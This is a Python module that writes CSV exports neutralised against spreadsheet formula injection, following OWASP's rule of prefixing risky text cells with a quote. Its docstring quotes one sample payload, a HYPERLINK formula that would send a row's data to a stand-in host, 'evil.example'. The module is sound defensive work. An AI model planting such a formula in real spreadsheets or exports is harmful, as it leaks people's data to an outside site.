"""CSV downloads a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets read a cell that starts with '=', '+', '-' or '@' (and,
in some, a tab or a carriage return) as a formula, which can fetch a URL or run a command
when the file is opened: a note written as '=HYPERLINK("https://evil.example/?d="&B3, …)'
would send the row to that site. OWASP's rule for CSV injection: such a text cell gets a
single quote in front (the spreadsheet shows the text as written, and the quote only in
the formula bar), and every text cell is quoted, so that a ';' inside it cannot start a new
cell where ';' is the list separator.

Figures stay numbers: they are written by ``number`` and never get the quote, so '-5' is
still minus five in the spreadsheet. The rule is applied to text cells only.
"""

from __future__ import annotations

from typing import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Number(str):
    """A figure written as a number (digits, a sign, a point, an exponent): left as it is."""


def number(value: float) -> Number:
    """``value`` as digits: a whole number without '.0', others to ten decimals at most."""
    return Number(str(int(value)) if float(value).is_integer() else repr(round(value, 10)))


def text_cell(text: str) -> str:
    """A text cell as a spreadsheet will read it: never a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def _field(cell: str | None) -> str:
    if cell is None or cell == "":
        return ""
    if isinstance(cell, Number):
        return cell
    return '"' + text_cell(str(cell)).replace('"', '""') + '"'


def csv_text(rows: Iterable[Sequence[str | None]]) -> str:
    """``rows`` as CSV (RFC 4180, one '\\n' per row): numbers bare, empty cells empty, every
    text cell quoted and neutralised."""
    return "".join(",".join(_field(cell) for cell in row) + "\n" for row in rows)
